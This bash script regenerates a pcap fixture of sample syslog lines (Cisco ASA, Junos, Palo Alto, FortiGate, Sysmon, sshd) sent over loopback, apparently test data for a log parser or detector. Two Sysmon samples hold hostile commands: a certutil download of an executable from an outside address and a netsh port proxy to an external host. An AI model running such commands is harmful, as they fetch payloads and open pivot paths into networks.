#!/usr/bin/env bash
# Re-records vendor-lines.pcap: util-linux logger sending network-device and Windows host lines to
# 127.0.0.1 over UDP (RFC 3164) and TCP (RFC 5424 octet-counted, and RFC 3164 LF-framed), captured on lo.
# Needs root (tcpdump), logger (bsdutils) and python3 (a TCP sink that reads and discards).
set -euo pipefail
cd "$(dirname "$0")"
U=51514
T=51515
python3 -c '
import socket, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", 51515)); s.listen(8)
def drain(c):
    while c.recv(65536): pass
    c.close()
while True:
    c, _ = s.accept(); threading.Thread(target=drain, args=(c,), daemon=True).start()
' &
SINK=$!
tcpdump -i lo -U -s 0 -w vendor-lines.pcap "udp port $U or tcp port $T" 2>/dev/null &
DUMP=$!
sleep 1
udp() { logger -n 127.0.0.1 -P $U -d --rfc3164 -t "$1" -- "$2"; }
udp fw01 '%ASA-6-302013: Built outbound TCP connection 4711 for outside:198.51.100.80/79 (198.51.100.80/79) to inside:10.1.1.5/51515 (203.0.113.2/51515)'
udp fw01 '%ASA-6-302014: Teardown TCP connection 4711 for outside:198.51.100.80/79 to inside:10.1.1.5/51515 duration 0:00:04 bytes 9000 TCP FINs'
udp rtr1 '%SEC-6-IPACCESSLOGP: list ACL-OUT permitted udp 10.1.1.6(50001) -> 198.51.100.69(69), 4 packets'
udp srx1 'RT_FLOW_SESSION_CLOSE: session closed TCP FIN: 10.1.1.7/51516->198.51.100.80/80 junos-http 203.0.113.2/21000->198.51.100.80/80 None None 6 p1 trust untrust 40001 12(1234) 40(5242880) 30 HTTP UNKNOWN N/A(N/A) ge-0/0/0.0 No'
udp pa1 '1,2024/03/04 10:00:40,016401002737,TRAFFIC,end,2561,2024/03/04 10:00:40,10.1.1.8,198.51.100.80,203.0.113.2,198.51.100.80,allow-web,,,web-browsing,vsys1,trust,untrust,eth1,eth2,fwd,2024/03/04 10:00:40,33333,1,51517,80,1,80,0x19,tcp,allow,2100000,100000,2000000,1500,2024/03/04 10:00:28,12,any,0,1,0x0,x,US,0,500,1000,tcp-fin'
udp fgt1 'date=2024-03-04 time=10:00:41 type="traffic" subtype="forward" srcip=10.1.100.11 srcport=58012 dstip=198.51.100.81 dstport=443 proto=6 action="close" service="HTTPS" duration=11 sentbyte=1188 rcvdbyte=1224 sentpkt=17 rcvdpkt=16'
logger -n 127.0.0.1 -P $T -T --rfc5424 --octet-count -t Microsoft-Windows-Sysmon -- 'EventID=1 SourceName=Microsoft-Windows-Sysmon Computer=ws09.corp.example User=CORP\dave Image=C:\Windows\System32\certutil.exe CommandLine="certutil -urlcache -split -f http://198.51.100.7/p.exe C:\Users\Public\p.exe"'
logger -n 127.0.0.1 -P $T -T --rfc5424 --octet-count -t Microsoft-Windows-Sysmon -- 'EventID=1 SourceName=Microsoft-Windows-Sysmon Computer=ws10.corp.example User=CORP\erin Image=C:\Windows\System32\netsh.exe CommandLine="netsh I p a v l=445 listena=0.0.0.0 connectp=445 c=203.0.113.50"'
logger -n 127.0.0.1 -P $T -T --rfc3164 -t sshd -- 'Accepted publickey for deploy from 10.2.1.2 port 51234 ssh2'
sleep 1
kill $DUMP $SINK
wait $DUMP 2>/dev/null || true
